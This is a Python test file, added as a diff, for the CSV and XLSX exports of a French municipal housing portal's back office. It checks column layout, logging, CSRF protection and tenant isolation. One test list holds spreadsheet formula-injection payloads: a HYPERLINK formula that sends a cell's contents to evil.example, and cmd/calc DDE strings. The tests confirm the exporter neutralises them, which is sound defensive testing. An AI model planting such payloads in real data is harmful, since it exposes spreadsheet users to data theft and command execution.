@@ -1,0 +1,332 @@
+"""Exports of the queue as CSV and XLSX, read back: ZLV's columns, formulas neutralised,
+every export logged, never another collectivité's answers, POST with CSRF only."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+from datetime import UTC, datetime
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import select
+
+from portal.backoffice.exports import csv_chunks, display_phone, headers, neutralised
+from portal.models import AccessLog, HousingPrecision, Response
+from portal.owner.journey import record_owner_return
+from tests.backoffice.answers_support import answered_letter, signed_in_agent
+from tests.builders import make_campaign, make_collectivite, make_housing, make_owner
+from tests.conftest import csrf_token
+
+QUEUE = "/gestion/reponses"
+# ZLV's "Logements" columns (its exact headers, its order), its owner columns, then ours.
+EXPECTED_HEADERS = [
+    "Identifiant fiscal national", "Identifiant fiscal départemental",
+    "Code INSEE commune du logement", "Adresse LOVAC du logement", "Type de logement",
+    "DPE représentatif", "Surface", "Nombre de pièces", "Date de construction", "Occupation",
+    "Date de début de vacance", "Statut", "Sous-statut", "Point(s) de blocage", "Évolution(s)",
+    "Dispositif(s)", "Campagne(s)", "Propriétaire", "Adresse LOVAC du propriétaire",
+    "Date du retour", "Situation déclarée", "Solutions présentées", "Demande de rappel",
+    "Téléphone", "Courriel", "Moments", "Message",
+]  # fmt: skip
+WHEN = datetime(2026, 3, 12, 13, 5, tzinfo=UTC)  # 14:05 in Paris
+
+
+@pytest.fixture
+def town(session):
+    town = make_collectivite(session, name="Commune de Bourges")
+    session.commit()
+    return town
+
+
+@pytest.fixture
+def agent(client, session, town):
+    return signed_in_agent(client, session, town)
+
+
+def with_callback(app, session, letter, **details):
+    with app.app_context():
+        record_owner_return(session, letter, app.extensions["content"], "callback",
+                            now=WHEN, callback=details)  # fmt: skip
+
+
+def export(client, fmt="csv", selection=None, **fields):
+    """POST the queue's export form (or the selection's) as the page would."""
+    data = {"csrf_token": csrf_token(client, QUEUE), "onglet": "new"} | fields
+    if selection is None:
+        return client.post(f"{QUEUE}/export.{fmt}", data=data)
+    return client.post(f"{QUEUE}/selection/export.{fmt}", data=data | {"reponse": selection})
+
+
+def csv_rows(result) -> list[dict]:
+    body = result.get_data()
+    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark, for Excel
+    reader = csv.reader(io.StringIO(body[3:].decode("utf-8"), newline=""), delimiter=";")
+    rows = list(reader)
+    assert rows[0] == EXPECTED_HEADERS
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+def xlsx_sheet(result):
+    workbook = load_workbook(io.BytesIO(result.get_data()))
+    assert workbook.sheetnames == ["Logements"]
+    sheet = workbook["Logements"]
+    assert [cell.value for cell in sheet[1]] == EXPECTED_HEADERS
+    return sheet
+
+
+def xlsx_rows(sheet) -> list[dict]:
+    return [
+        {header: cell for header, cell in zip(EXPECTED_HEADERS, row, strict=True)}
+        for row in sheet.iter_rows(min_row=2)
+    ]
+
+
+@pytest.fixture
+def answered(app, session, town):
+    """One rich answer: précisions, two campaigns, a call-back request with a message."""
+    owner = make_owner(session, town, full_name="Hélène Dupré", email="helene@example.org",
+                       address_lines=["3 place du Marché", "18000 Bourges"])  # fmt: skip
+    housing = make_housing(
+        session, town, local_id="180330000123", invariant="1803300001", insee_code="18033",
+        address_lines=["12 rue des Tilleuls", "18000 Bourges"], kind="APPART", living_area=64,
+        rooms_count=3, building_year=1962, energy_label="F", vacancy_start_year=2019,
+    )  # fmt: skip
+    older = make_campaign(session, town, title="Relance 2025",
+                          created_at=datetime(2025, 1, 1, tzinfo=UTC))  # fmt: skip
+    letter = answered_letter(app, session, town, owner=owner, housing=housing, when=WHEN)
+    answered_letter(app, session, town, campaign=older, owner=make_owner(session, town),
+                    housing=housing, when=datetime(2025, 2, 1, tzinfo=UTC))  # fmt: skip
+    for category, label in (("blocage-involontaire", "Succession en cours"),
+                            ("dispositifs-incitatifs", "Conventionnement avec travaux"),
+                            ("travaux", "À venir")):  # fmt: skip
+        session.add(HousingPrecision(housing_id=housing.id, category=category, label=label,
+                                     collectivite_id=town.id))  # fmt: skip
+    session.commit()
+    with_callback(app, session, letter, phone="+33612345678", email="h.dupre@example.org",
+                  moments=["morning", "evening"], note="Plutôt après 18 h")  # fmt: skip
+    return letter
+
+
+def test_the_csv_reads_back_in_zlv_columns_with_our_own_after(app, client, agent, answered):
+    result = export(client, onglet="callback")
+    assert result.status_code == 200
+    assert result.mimetype == "text/csv"
+    assert result.headers["Cache-Control"] == "no-store"
+    disposition = result.headers["Content-Disposition"]
+    assert re.fullmatch(
+        r'attachment; filename="reponses-proprietaires-\d{4}-\d{2}-\d{2}-\d{2}h\d{2}\.csv"',
+        disposition,
+    )
+    assert b"\r\n" in result.get_data()  # RFC 4180 line ends
+    (row,) = csv_rows(result)
+    aid = app.extensions["content"].aids["anah-travaux-bailleur"].title["fr"]
+    assert row["Identifiant fiscal national"] == "180330000123"
+    assert row["Identifiant fiscal départemental"] == "1803300001"
+    assert row["Code INSEE commune du logement"] == "18033"
+    assert row["Adresse LOVAC du logement"] == "12 rue des Tilleuls\n18000 Bourges"
+    assert (row["Type de logement"], row["DPE représentatif"]) == ("Appartement", "F")
+    assert (row["Surface"], row["Nombre de pièces"], row["Date de construction"]) == (
+        "64", "3", "1962",
+    )  # fmt: skip
+    assert row["Date de début de vacance"] == "2019"
+    assert (row["Statut"], row["Sous-statut"]) == ("Premier contact", "")
+    assert row["Point(s) de blocage"] == "Succession en cours"
+    assert row["Évolution(s)"] == "À venir"
+    assert row["Dispositif(s)"] == "Conventionnement avec travaux"
+    assert row["Campagne(s)"] == "Relance 2025\nCampagne test"  # oldest first
+    assert row["Propriétaire"] == "Hélène Dupré"
+    assert row["Adresse LOVAC du propriétaire"] == "3 place du Marché\n18000 Bourges"
+    assert row["Date du retour"] == "2026-03-12 14:05"  # Paris time
+    assert row["Situation déclarée"] == "Vide, personne n’y habite"
+    assert aid in row["Solutions présentées"].split("\n")
+    assert row["Demande de rappel"] == "Demandé"
+    assert row["Téléphone"] == "06 12 34 56 78"  # national form: no "+", no apostrophe
+    assert row["Courriel"] == "h.dupre@example.org"  # the one given for the call-back
+    assert row["Moments"] == "Le matin, En fin de journée"
+    assert row["Message"] == "Plutôt après 18 h"
+
+
+def test_the_xlsx_reads_back_with_numbers_dates_and_text(app, client, agent, answered):
+    result = export(client, "xlsx", onglet="callback")
+    assert result.status_code == 200
+    assert result.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert result.headers["Content-Disposition"].endswith('.xlsx"')
+    assert result.headers["Cache-Control"] == "no-store"
+    (row,) = xlsx_rows(xlsx_sheet(result))
+    assert row["Identifiant fiscal national"].value == "180330000123"
+    assert row["Identifiant fiscal national"].data_type == "s"  # an id, not a number
+    assert (row["Surface"].value, row["Surface"].data_type) == (64, "n")
+    assert row["Date du retour"].value == datetime(2026, 3, 12, 14, 5)
+    assert row["Date du retour"].is_date
+    assert row["Adresse LOVAC du logement"].value == "12 rue des Tilleuls\n18000 Bourges"
+    assert row["Téléphone"].value == "06 12 34 56 78"
+    assert row["Statut"].value == "Premier contact"
+    assert row["Sous-statut"].value is None
+
+
+DANGEROUS_NAMES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
+    "+33 6 12 34 56 78",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_names_that_could_be_formulas_come_back_as_text_in_both_formats(
+    app, client, session, town, agent
+):
+    for n, name in enumerate(DANGEROUS_NAMES):
+        owner = make_owner(session, town, full_name=name, phone="+447911123456")
+        housing = make_housing(session, town, local_id=f"18033000000{n}")
+        answered_letter(app, session, town, owner=owner, housing=housing)
+    rows = sorted(csv_rows(export(client)), key=lambda row: row["Identifiant fiscal national"])
+    assert [row["Propriétaire"] for row in rows] == ["'" + name for name in DANGEROUS_NAMES]
+    assert {row["Téléphone"] for row in rows} == {"'+447911123456"}  # foreign: keeps its "+"
+    result = export(client, "xlsx")
+    rows = sorted(xlsx_rows(xlsx_sheet(result)),
+                  key=lambda row: row["Identifiant fiscal national"].value)  # fmt: skip
+    for name, row in zip(DANGEROUS_NAMES, rows, strict=True):
+        cell = row["Propriétaire"]
+        assert cell.value == "'" + name.replace("\r", "\n")  # XML reads a CR back as a LF
+        assert cell.data_type == "s"  # text, not a formula ("f")
+        assert row["Téléphone"].value == "'+447911123456"
+    sheet_xml = zipfile.ZipFile(io.BytesIO(result.get_data())).read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"), ("\x00=1+1", "'=1+1"), ("a\x00b\x1f", "ab"), ("Dupré", "Dupré"),
+        ("", ""), ("a=1", "a=1"), ("ligne 1\n=2", "ligne 1\n=2"),
+    ],
+)  # fmt: skip
+def test_neutralised_is_the_one_rule_for_both_formats(text, expected):
+    assert neutralised(text) == expected
+
+
+@pytest.mark.parametrize(
+    ("stored", "shown"),
+    [("+33612345678", "06 12 34 56 78"), ("0612345678", "06 12 34 56 78"),
+     ("+447911123456", "+447911123456"), (None, None), ("n’importe quoi", "n’importe quoi")],
+)  # fmt: skip
+def test_french_phone_numbers_are_exported_in_national_form(stored, shown):
+    assert display_phone(stored) == shown
+
+
+def test_the_csv_is_produced_while_it_is_read():
+    consumed = []
+
+    def rows():
+        for n in range(1000):
+            consumed.append(n)
+            yield [f"ligne {n}", n, None]
+
+    chunks = csv_chunks(rows(), every=100)
+    first = next(chunks)
+    assert first.startswith(b"\xef\xbb\xbf") and not consumed  # the header, nothing read yet
+    next(chunks)
+    assert len(consumed) == 100  # one batch, not the whole file
+    assert len(list(chunks)) == 9
+    assert headers() == EXPECTED_HEADERS
+
+
+def test_an_export_is_logged_with_the_owners_count_and_the_filter(app, client, session, town,
+                                                                   agent):  # fmt: skip
+    albert = make_owner(session, town, full_name="Albert Ancien")
+    answered_letter(app, session, town, owner=albert)
+    answered_letter(app, session, town, owner=albert)  # a second dwelling, same owner
+    answered_letter(app, session, town, owner=make_owner(session, town, full_name="Zoé Zola"))
+    rows = csv_rows(export(client, q="ancien"))
+    assert [row["Propriétaire"] for row in rows] == ["Albert Ancien", "Albert Ancien"]
+    session.rollback()
+    (log,) = session.scalars(select(AccessLog)).all()
+    assert (log.agent_id, log.action, log.owner_id, log.count) == (agent.id, "export", None, 1)
+    assert log.detail == {"format": "csv", "tab": "new", "filter": {"q": "ancien"}}
+
+
+def test_the_export_follows_the_current_tab(app, client, session, town, agent, answered):
+    answered_letter(app, session, town, owner=make_owner(session, town, full_name="Nina Neuve"))
+    new = [row["Propriétaire"] for row in csv_rows(export(client))]
+    assert "Nina Neuve" in new and "Hélène Dupré" not in new
+    callback = csv_rows(export(client, onglet="callback"))
+    assert [row["Propriétaire"] for row in callback] == ["Hélène Dupré"]
+
+
+def test_the_selection_is_exported_and_logged(app, client, session, town, agent):
+    letters = [answered_letter(app, session, town) for _ in range(3)]
+    ids = [session.scalar(select(Response.id).where(Response.letter_id == letter.id))
+           for letter in letters]  # fmt: skip
+    rows = xlsx_rows(xlsx_sheet(export(client, "xlsx", selection=ids[:2])))
+    assert sorted(row["Propriétaire"].value for row in rows) == sorted(
+        letter.owner.full_name for letter in letters[:2]
+    )
+    session.rollback()
+    (log,) = session.scalars(select(AccessLog)).all()
+    assert (log.action, log.count) == ("export", 2)
+    assert log.detail == {"format": "xlsx", "tab": None, "responses": sorted(ids[:2])}
+
+
+def test_another_collectivites_answers_are_never_exported(app, client, session, town, agent):
+    other = make_collectivite(session, name="Commune voisine")
+    session.commit()
+    odile = make_owner(session, other, full_name="Odile Ailleurs")
+    foreign = answered_letter(app, session, other, owner=odile)
+    mine = answered_letter(app, session, town)
+    foreign_id = session.scalar(select(Response.id).where(Response.letter_id == foreign.id))
+    mine_id = session.scalar(select(Response.id).where(Response.letter_id == mine.id))
+    assert [row["Propriétaire"] for row in csv_rows(export(client))] == [mine.owner.full_name]
+    xlsx = xlsx_rows(xlsx_sheet(export(client, "xlsx")))
+    assert [row["Propriétaire"].value for row in xlsx] == [mine.owner.full_name]
+    for fmt in ("csv", "xlsx"):
+        refused = export(client, fmt, selection=[mine_id, foreign_id])
+        assert refused.status_code == 404
+        assert b"Odile" not in refused.get_data()
+    session.rollback()
+    assert [log.count for log in session.scalars(select(AccessLog))] == [1, 1]
+
+
+def test_exports_are_posted_with_the_csrf_token_by_a_signed_in_agent(app, client, session, town):
+    answered_letter(app, session, town)
+    token = csrf_token(client, "/gestion/connexion")
+    signed_out = client.post(f"{QUEUE}/export.csv", data={"csrf_token": token})
+    assert signed_out.status_code == 303
+    assert signed_out.headers["Location"].startswith("/gestion/connexion")
+    signed_in_agent(client, session, town)
+    assert client.get(f"{QUEUE}/export.csv").status_code == 405
+    assert client.get(f"{QUEUE}/export.xlsx").status_code == 405
+    assert client.post(f"{QUEUE}/export.csv", data={"onglet": "new"}).status_code == 400
+    assert client.post(f"{QUEUE}/export.pdf", data={}).status_code in (400, 404)
+    session.rollback()
+    assert session.scalar(select(AccessLog)) is None
+
+
+@pytest.mark.parametrize(
+    ("selection", "message"),
+    [([], "Cochez au moins une réponse"), (["abc"], "La sélection n’est pas valide"),
+     (["-1"], "La sélection n’est pas valide"), ([str(n) for n in range(1, 502)], "au plus 500")],
+)  # fmt: skip
+def test_a_bad_selection_is_not_exported(app, client, session, town, agent, selection, message):
+    answered_letter(app, session, town)
+    result = export(client, selection=selection)
+    assert result.status_code == 400
+    assert message in result.get_data(as_text=True)
+    session.rollback()
+    assert session.scalar(select(AccessLog)) is None
+
+
+def test_a_tampered_filter_is_refused(app, client, session, town, agent):
+    answered_letter(app, session, town)
+    foreign = make_campaign(session, make_collectivite(session, name="Commune voisine"))
+    session.commit()
+    assert export(client, since="31/02/2026").status_code == 400
+    assert export(client, campaign=str(foreign.id)).status_code == 400  # not one of ours
+    assert export(client, campaign="99999").status_code == 400
+    session.rollback()
+    assert session.scalar(select(AccessLog)) is None
